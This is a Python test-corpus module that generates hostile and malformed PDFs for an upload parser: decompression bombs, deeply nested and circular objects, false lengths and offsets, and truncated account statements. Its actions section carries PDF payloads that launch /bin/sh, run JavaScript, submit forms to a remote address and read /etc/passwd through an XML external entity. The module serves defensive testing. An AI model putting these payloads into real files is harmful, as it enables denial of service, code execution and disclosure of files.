"""PDFs: endless objects and streams, circles, scripts, other passwords, lies about lengths."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Iterator, Sequence
from functools import partial

from packages.server.tests.uploads.corpus.case import Case, Cases
from packages.server.tests.uploads.files import attacks
from packages.server.tests.uploads.files.account_statements import (
    account_statement,
    invented_schemes,
)
from packages.server.tests.uploads.files.depository_statements import (
    cdsl_statement,
    invented_statement,
    nsdl_statement,
    plain_pdf,
)

_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R %s >>"
_CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R %s >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_DRAWN = b"/Resources << /XObject << /A 5 0 R >> >>"
Found = Iterator[tuple[str, str, Callable[[], bytes]]]


def pdfs() -> Cases:
    """All of them, as account statements."""
    for family, name, make in (
        *_objects(), *_circles(), *_streams(), *_actions(), *_lies(), *_statements(), *_cut(),
    ):  # fmt: skip
        yield Case(family, name, make, kind="cas")


def made(objects: Sequence[bytes], trailer: bytes = b"", start: int | None = None) -> bytes:
    """A PDF of these objects, numbered from 1. start: where it says that its table is."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root 1 0 R %s >>\n" % (len(objects) + 1, trailer)
    return bytes(out) + b"startxref\n%d\n%%%%EOF" % (table if start is None else start)


def stream(content: bytes, filters: bytes = b"/FlateDecode", extra: bytes = b"") -> bytes:
    """An object with a stream."""
    return b"<< /Length %d /Filter %s %s >>\nstream\n%s\nendstream" % (
        len(content), filters, extra, content,
    )  # fmt: skip


def page(
    content: bytes, *, resources: bytes = b"", more: Sequence[bytes] = (), catalogue: bytes = b""
) -> bytes:  # fmt: skip
    """A PDF of one page. content: its stream's object; more: objects from number 5."""
    return made([_CATALOGUE % catalogue, _PAGES, _PAGE % resources, content, *more])


_EMPTY = stream(zlib.compress(b""))


def _objects() -> Found:
    for count in (1000, 100_000, 300_000):
        yield "objects", f"{count}", partial(page, _EMPTY, more=[b"null"] * count)
    for depth in (500, 5000, 100_000):
        yield "objects", f"lists {depth} deep", partial(_nested, depth, b"[", b"]")
        yield "objects", f"dictionaries {depth} deep", partial(_nested, depth, b"<< /A ", b">>")
    for count in (401, 10_000, 200_000):
        yield "objects", f"{count} pages that are one", partial(_same_page, count)
    yield "objects", "a text of 10 MB", lambda: page(_EMPTY, catalogue=b"/A (%s)" % (b"x" * 10**7))
    yield "objects", "a name of 10 MB", lambda: page(_EMPTY, catalogue=b"/A /%s" % (b"x" * 10**7))
    yield "objects", "a number of 1 MB", lambda: page(_EMPTY, catalogue=b"/A " + b"9" * 10**6)


def _nested(depth: int, left: bytes, right: bytes) -> bytes:
    return page(_EMPTY, catalogue=b"/A " + left * depth + b"1" + right * depth)


def _same_page(count: int) -> bytes:
    pages = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b"3 0 R " * count, count)
    return made([_CATALOGUE % b"", pages, _PAGE % b"", _EMPTY])


def _circles() -> Found:
    yield (
        "circles",
        "a page tree",
        lambda: made(
            [_CATALOGUE % b"", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>", b"null", _EMPTY]
        ),
    )
    yield (
        "circles",
        "a table before itself",
        lambda: made([_CATALOGUE % b"", _PAGES, _PAGE % b"", _EMPTY], b"/Prev 9"),
    )
    yield (
        "circles",
        "a length that is its own",
        lambda: page(b"<< /Length 4 0 R >>\nstream\nx\nendstream"),
    )
    yield (
        "circles",
        "a catalogue that is itself",
        lambda: made([b"1 0 R", _PAGES, _PAGE % b"", _EMPTY]),
    )
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A 5 0 R >> >>"
    drawn = stream(zlib.compress(b"/A Do " * 50), extra=form)
    for uses in (1, 50):
        use = stream(zlib.compress(b"/A Do " * uses))
        yield (
            "circles",
            f"a form in itself, {uses} times",
            partial(page, use, resources=_DRAWN, more=[drawn]),
        )
    chain = [
        stream(
            zlib.compress(b"/A Do " * 10),
            extra=form.replace(b"5 0 R", b"%d 0 R" % (number + 1)),
        )
        for number in range(5, 17)
    ]
    yield "circles", "forms that grow tenfold at 12 levels", partial(
        page, stream(zlib.compress(b"/A Do")), more=[*chain, drawn],
        resources=_DRAWN,
    )  # fmt: skip


def _streams() -> Found:
    for megabytes in (50, 300, 600):
        yield "streams", f"{megabytes} MB of texts", partial(_texts, megabytes)
    yield "streams", "packed twice", _packed_twice
    for name in (
        b"/LZWDecode",
        b"/RunLengthDecode",
        b"/ASCIIHexDecode",
        b"/JBIG2Decode",
        b"/Nothing",
    ):
        noise = stream(b"\x80\x0b\x60\x50" * 50_000, name)
        yield "streams", f"noise for {name.decode()}", partial(page, noise)
    runs = stream(b"\x81\x00" * 2_000_000 + b"\x80", b"/RunLengthDecode")
    yield "streams", "runs of 256 MB", partial(page, runs)
    chain = stream(zlib.compress(b"x"), b"[" + b"/ASCIIHexDecode " * 5000 + b"]")
    yield "streams", "5,000 filters", partial(page, chain)
    image = stream(
        zlib.compress(bytes(1000)),
        extra=b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 "
        b"/ColorSpace /DeviceRGB",
    )
    yield "streams", "an image of 60,000 by 60,000", partial(
        page, stream(zlib.compress(b"/A Do")), resources=_DRAWN,
        more=[image],
    )  # fmt: skip
    deep = stream(zlib.compress(b"q " * 3_000_000))
    yield "streams", "3,000,000 saved states", partial(page, deep)
    arrays = stream(zlib.compress(b"[" * 1_000_000))
    yield "streams", "1,000,000 open lists", partial(page, arrays)


def _texts(megabytes: int) -> bytes:
    return page(stream(zlib.compress(b"BT (x) Tj ET\n" * (megabytes * 80_000), 9)))


def _packed_twice() -> bytes:
    packed = zlib.compress(zlib.compress(bytes(200 * 1024**2), 9), 9)
    return page(stream(packed, b"[/FlateDecode /FlateDecode]"))


def _actions() -> Found:
    for name, action in {
        "a script": b"<< /S /JavaScript /JS (app.launchURL('http://192.0.2.1')) >>",
        "a program": b"<< /S /Launch /F (/bin/sh) >>",
        "an address": b"<< /S /URI /URI (http://192.0.2.1) >>",
        "another file": b"<< /S /GoToR /F (\\\\192.0.2.1\\a) >>",
        "a form to send": b"<< /S /SubmitForm /F (http://192.0.2.1) >>",
    }.items():
        yield "actions", name, partial(page, _EMPTY, catalogue=b"/OpenAction " + action)
    names = b"/Names << /EmbeddedFiles << /Names [(a) << /F (a.exe) >>] >> >>"
    yield "actions", "a file inside", partial(page, _EMPTY, catalogue=names)
    xfa = (
        b"/AcroForm << /XFA (<?xml version='1.0'?><!DOCTYPE a SYSTEM 'file:///etc/passwd'><a/>) >>"
    )
    yield "actions", "a form of XML", partial(page, _EMPTY, catalogue=xfa)


def _lies() -> Found:
    for length in (-1, 0, 2**31, 2**63):
        content = b"<< /Length %d >>\nstream\nBT ET\nendstream" % length
        yield "lies", f"a stream of {length} bytes", partial(page, content)
    for count in (-1, 0, 401, 2**31 - 1):
        pages = b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count
        yield (
            "lies",
            f"{count} pages stated",
            partial(made, [_CATALOGUE % b"", pages, _PAGE % b"", _EMPTY]),
        )
    for start in (0, 5, 2**31, -1):
        yield (
            "lies",
            f"its table at {start}",
            partial(made, [_CATALOGUE % b"", _PAGES, _PAGE % b"", _EMPTY], b"", start),
        )
    for version in (b"%PDF-9.9", b"%PDF-", b"%PDF-1.7\n%%EOF", b"%PDF-1.7"):
        yield "lies", repr(version), lambda content=version: content
    locked = b"/Encrypt << /Filter /Unknown /V 99 /R 99 /O (x) /U (x) /P -1 >> /ID [(a) (b)]"
    yield (
        "lies",
        "an unknown lock",
        partial(made, [_CATALOGUE % b"", _PAGES, _PAGE % b"", _EMPTY], locked),
    )
    size = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1e30 -1e30] /Contents 4 0 R >>"
    yield "lies", "a page of 1e30", partial(made, [_CATALOGUE % b"", _PAGES, size, _EMPTY])


def _statements() -> Found:
    yield "statements", "another password", attacks.other_password_pdf
    yield "statements", "a mark alone", partial(plain_pdf, ["CAMSCASWS-1"])
    yield (
        "statements",
        "a mark and a title",
        partial(plain_pdf, ["CAMSCASWS-1", "Consolidated Account Statement"]),
    )
    yield (
        "statements",
        "KFintech's mark",
        partial(plain_pdf, ["KFINCASWS", "Consolidated Account Summary"]),
    )
    for mark in (
        "NSDL Consolidated Account Statement",
        "Central Depository Services (India) Limited",
    ):
        for line in ("", "NSDL ID: 1", "CAS ID: 1"):
            lines = [mark, "", line, "A PERSON", "9" * 300, "=1+1", "NSDL Demat Account"]
            yield "statements", f"{mark[:5]} with {line!r}", partial(plain_pdf, lines)
    many = ["NSDL Consolidated Account Statement", "", "NSDL ID: 1", "A", *["INE000A01012"] * 5000]
    yield "statements", "5,000 lines on a page", partial(plain_pdf, many)
    yield (
        "statements",
        "900 pages",
        partial(account_statement, invented_schemes(1), password="", pages_before=900),
    )


def _cut() -> Found:
    for name, whole in {
        "CAMS": partial(account_statement, invented_schemes(1), password=""),
        "NSDL": partial(nsdl_statement, invented_statement(1), password=""),
        "CDSL": partial(cdsl_statement, invented_statement(1), password=""),
    }.items():
        for percent in (1, 25, 50):
            yield "cut", f"{name}'s statement at {percent} %", partial(_part, whole, percent)


def _part(whole: Callable[[], bytes], percent: int) -> bytes:
    content = whole()
    return content[: len(content) * percent // 100]
